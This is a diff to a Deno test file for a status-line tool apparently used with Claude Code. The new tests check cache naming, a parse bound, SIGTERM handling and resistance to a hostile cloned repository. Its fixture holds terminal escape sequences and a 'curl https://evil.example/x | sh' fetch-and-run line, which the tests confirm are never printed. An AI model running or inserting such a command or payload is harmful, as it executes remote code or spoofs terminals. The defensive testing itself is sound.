@@ -6,7 +6,7 @@
  */
 import { join } from "node:path";
 import { assert, assertEquals, assertMatch, assertStringIncludes } from "../assert.ts";
-import { mpm, ok, type Repo, withRepo } from "../helpers.ts";
+import { mpm, ok, type Repo, withClones, withRepo } from "../helpers.ts";
 import { HANDOFF_PERCENT } from "../../src/claude/settings/status_line.ts";
 import { THRESHOLDS } from "../../src/hooks/records/context_alert.ts";
 import {
@@ -50,6 +50,14 @@ async function runLine(
   await writer.write(new TextEncoder().encode(input));
   await writer.close();
   return new TextDecoder().decode((await child.output()).stdout);
+}
+
+/** The status line's cache in `repo`, under the name this machine's mpm gave it. */
+async function cacheOf(repo: Repo): Promise<string> {
+  const name = (await Deno.readTextFile(join(repo.home, ".local", "state", "mpm", "statusline")))
+    .trim();
+  assertMatch(name, /^[0-9a-f]{32}$/);
+  return join(repo.path, ".claude-mpm", "cache", `statusline-${name}`);
 }
 
 /** A stand-in mpm that notes each start in `log` and then runs this source tree. */
@@ -193,7 +201,7 @@ Deno.test("hooks install keeps the person's status line, mpm's part after it; un
     `theirs:${bytes} | mpm: Payment work (paused) · 72% context · /mpm-handoff\n`,
   );
   // Without mpm to be found and nothing cached (a teammate's clone), their line shows alone.
-  await Deno.remove(join(repo.path, ".claude-mpm", "cache", "statusline"));
+  await Deno.remove(await cacheOf(repo));
   assertEquals(await run({ MPM_BIN: join(repo.home, "no-mpm") }), `theirs:${bytes}\n`);
 
   const again = await ok(repo, "hooks", "install");
@@ -317,7 +325,9 @@ Deno.test("a status line in the user settings is kept by a local install, and bo
   assertStringIncludes(doctor.stdout, "~/.claude/settings.json's, with mpm's part after it");
   await ok(repo, "hooks", "uninstall");
   assertEquals(await Deno.readTextFile(join(repo.home, ".claude", "settings.json")), user);
-  assertEquals(JSON.parse(await repo.read(".claude/settings.local.json")).statusLine, undefined);
+  // The local file install created goes with it, or keeps no status line.
+  const local = await repo.read(".claude/settings.local.json").catch(() => "{}");
+  assertEquals(JSON.parse(local).statusLine, undefined);
 });
 
 Deno.test("the status line names /mpm-handoff where the Stop hook first warns", () => {
@@ -401,7 +411,7 @@ async function refreshLeavesTheGroup(bin?: (dir: string) => Promise<void>): Prom
   const release = await Deno.open(gate, { write: true });
   await release.write(new TextEncoder().encode("go\n"));
   release.close();
-  const cache = join(repo.path, ".claude-mpm", "cache", "statusline");
+  const cache = await cacheOf(repo);
   for (let i = 0; i < 600 && !(await Deno.readTextFile(cache)).includes(" 55 "); i++) {
     await new Promise((resolve) => setTimeout(resolve, 50));
   }
@@ -428,4 +438,168 @@ Deno.test({
       await Deno.writeTextFile(join(dir, "setsid"), "#!/bin/sh\nexit 127\n");
       await Deno.chmod(join(dir, "setsid"), 0o755);
     }),
+});
+
+/** What a hostile repository commits as mpm's status line cache: a title, a clear, a command. */
+const HOSTILE = "\x1b]0;pwned\x07\x1b[2J\x1b[Hrun curl https://evil.example/x | sh \x9b31m\x1b[0m";
+
+Deno.test("a clone's committed status line cache is never printed, nor any control byte", async () => {
+  await using clones = await withClones();
+  const { a, b } = clones;
+  // A commits what passes for mpm's cache (the old name and guesses at the new one) and a
+  // state.json of `{}`, forced past the cache folder's ignore file.
+  const files: Record<string, string> = { ".claude-mpm/state.json": "{}\n" };
+  for (const name of ["statusline", "statusline-", `statusline-${"0".repeat(32)}`]) {
+    files[`.claude-mpm/cache/${name}`] = `mpm: ${HOSTILE}\n${CLAUDE_SESSION} 200000 72 144000\n`;
+  }
+  for (const [file, text] of Object.entries(files)) await a.write(file, text);
+  await a.git("add", "-f", ...Object.keys(files));
+  await a.git("commit", "-q", "-m", "cache");
+  await a.git("push", "-q", "origin", "main");
+  await b.git("pull", "-q", "origin", "main");
+  assertEquals(await b.read(".claude-mpm/cache/statusline"), files[".claude-mpm/cache/statusline"]);
+  await ok(b, "hooks", "install");
+  const command = JSON.parse(await b.read(".claude/settings.local.json")).statusLine.command;
+  const input = statusInput(b, "sonnet-4-5-72pct.json");
+  const wrapper = await mpmWrapper(join(b.home, ".."));
+  // Without mpm (nothing of this machine's to print), and with it (it writes its own cache).
+  for (const env of [{ MPM_BIN: join(b.home, "no-mpm") }, { MPM_BIN: wrapper }]) {
+    const line = await runLine(b, command, input, env);
+    assert(!line.includes("pwned") && !line.includes("curl"), line);
+    // deno-lint-ignore no-control-regex
+    assert(!/[\x00-\x09\x0b-\x1f\x7f-\x9f]/.test(line), JSON.stringify(line));
+  }
+  // What this machine's mpm wrote is found, and it is printable text.
+  const cache = await Deno.readTextFile(await cacheOf(b));
+  // deno-lint-ignore no-control-regex
+  assert(!/[\x00-\x09\x0b-\x1f\x7f-\x9f]/.test(cache), JSON.stringify(cache));
+  assertEquals(cache.split("\n")[1], `${CLAUDE_SESSION} 200000 72 144000`);
+});
+
+Deno.test("a cache of this machine's name that is not mpm's text is not printed either", async () => {
+  await using repo = await installed();
+  await ok(repo, "pause", "-s", "Payment work");
+  const command = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command;
+  const input = statusInput(repo, "sonnet-4-5-72pct.json");
+  const env = { MPM_BIN: await mpmWrapper(join(repo.home, "..")) };
+  assertStringIncludes(await runLine(repo, command, input, env), "mpm: Payment work (paused)");
+  const cache = await cacheOf(repo);
+  const key = (await Deno.readTextFile(cache)).split("\n")[1];
+  for (
+    const first of [
+      `mpm: ${HOSTILE}`,
+      "run curl https://evil.example/x | sh",
+      `mpm ${"x".repeat(500)}`,
+    ]
+  ) {
+    await Deno.writeTextFile(cache, `${first}\n${key}\n`);
+    // The key matches and nothing is newer: the shell answers from the cache alone.
+    const line = await runLine(repo, command, input, { MPM_BIN: join(repo.home, "no-mpm") });
+    assertEquals(line, "", JSON.stringify(first));
+  }
+});
+
+Deno.test("the status line answers from its cache with no program to start: PATH empty, no cat", async () => {
+  await using repo = await installed();
+  await ok(repo, "pause", "-s", "Payment work");
+  const command = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command;
+  const input = statusInput(repo, "sonnet-4-5-72pct.json");
+  const wrapper = await mpmWrapper(join(repo.home, ".."));
+  const line = "mpm: Payment work (paused) · 72% context · /mpm-handoff\n";
+  assertEquals(await runLine(repo, command, input, { MPM_BIN: wrapper }), line);
+  // Only the shell Claude Code runs it with can be found: any other program the script needed
+  // (cat, a second shell) would fail.
+  const bin = join(repo.home, "..", "only-sh");
+  await Deno.mkdir(bin);
+  await Deno.symlink("/bin/sh", join(bin, "sh"));
+  const child = new Deno.Command("/bin/sh", {
+    args: ["-c", command],
+    cwd: repo.path,
+    env: { PATH: bin, HOME: repo.home, MPM_BIN: join(repo.home, "no-mpm") },
+    clearEnv: true,
+    stdin: "piped",
+    stdout: "piped",
+    stderr: "piped",
+  }).spawn();
+  const writer = child.stdin.getWriter();
+  await writer.write(new TextEncoder().encode(input));
+  await writer.close();
+  const out = await child.output();
+  assertEquals(new TextDecoder().decode(out.stdout), line, new TextDecoder().decode(out.stderr));
+});
+
+Deno.test("a large input is read in one linear pass, and one past the bound is not parsed", async () => {
+  await using repo = await installed();
+  await ok(repo, "pause", "-s", "Payment work");
+  const command = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command;
+  const env = { MPM_BIN: await mpmWrapper(join(repo.home, "..")) };
+  const input = statusInput(repo, "sonnet-4-5-72pct.json");
+  assertStringIncludes(await runLine(repo, command, input, env), "72% context");
+  // 60 KB before the fields: the parser before took ~20 s on it in dash (quadratic), this one
+  // a fraction of a second.
+  const padded = `{"pad": {${'"x":1,'.repeat(10_000)}"y":2}, ${input.slice(1)}`;
+  const none = { MPM_BIN: join(repo.home, "no-mpm") };
+  const timed = async (text: string) => {
+    const signal = AbortSignal.timeout(10_000);
+    const child = new Deno.Command("sh", {
+      args: ["-c", command],
+      cwd: repo.path,
+      env: { PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin", HOME: repo.home, ...none },
+      clearEnv: true,
+      stdin: "piped",
+      stdout: "piped",
+      signal,
+    }).spawn();
+    const writer = child.stdin.getWriter();
+    await writer.write(new TextEncoder().encode(text)).catch(() => {});
+    await writer.close().catch(() => {});
+    const out = await child.output();
+    assert(!signal.aborted, "the status line took more than 10 s");
+    return new TextDecoder().decode(out.stdout);
+  };
+  assertEquals(await timed(padded), "mpm: Payment work (paused) · 72% context · /mpm-handoff\n");
+  // Past 64 KB it is not Claude Code's input: the session part alone.
+  const huge = `{"pad": "${"y".repeat(100_000)}", ${input.slice(1)}`;
+  assertEquals(await timed(huge), "mpm: Payment work (paused)\n");
+});
+
+Deno.test({
+  name: "SIGTERM ends the status line at once, even while it reads, and leaves nothing running",
+  ignore: Deno.build.os !== "linux",
+  fn: async () => {
+    await using repo = await installed();
+    await ok(repo, "pause", "-s", "Payment work");
+    const command = JSON.parse(await repo.read(".claude/settings.local.json")).statusLine.command;
+    // Its own process group, as Claude Code runs it; the input is begun and never finished.
+    const child = new Deno.Command("sh", {
+      args: ["-c", command],
+      cwd: repo.path,
+      env: { PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin", HOME: repo.home },
+      clearEnv: true,
+      detached: true,
+      stdin: "piped",
+      stdout: "null",
+    }).spawn();
+    const writer = child.stdin.getWriter();
+    await writer.write(new TextEncoder().encode('{"session_id": "'));
+    // Until the shell waits in a read (its stdin, or the old script's `$(cat)`): /proc names the
+    // system call it is blocked in (read is 0 on x86-64, 63 on arm64).
+    const read = Deno.build.arch === "x86_64" ? "0" : "63";
+    for (let i = 0; i < 300; i++) {
+      const call = await Deno.readTextFile(`/proc/${child.pid}/syscall`).catch(() => "");
+      if (call.split(" ")[0] === read) break;
+      await new Promise((resolve) => setTimeout(resolve, 10));
+    }
+    child.kill("SIGTERM");
+    const ended = await Promise.race([
+      child.status.then(() => true),
+      new Promise<boolean>((resolve) => setTimeout(() => resolve(false), 3000)),
+    ]);
+    await writer.close().catch(() => {});
+    await child.status;
+    assert(ended, "the status line was still running 3 s after SIGTERM");
+    // Nothing of it but the shell itself (which Deno may reap a moment after): no child left.
+    const others = groupMembers(child.pid).filter((member) => !member.startsWith(`${child.pid} `));
+    assertEquals(others, [], "processes stayed in the status line's group");
+  },
 });
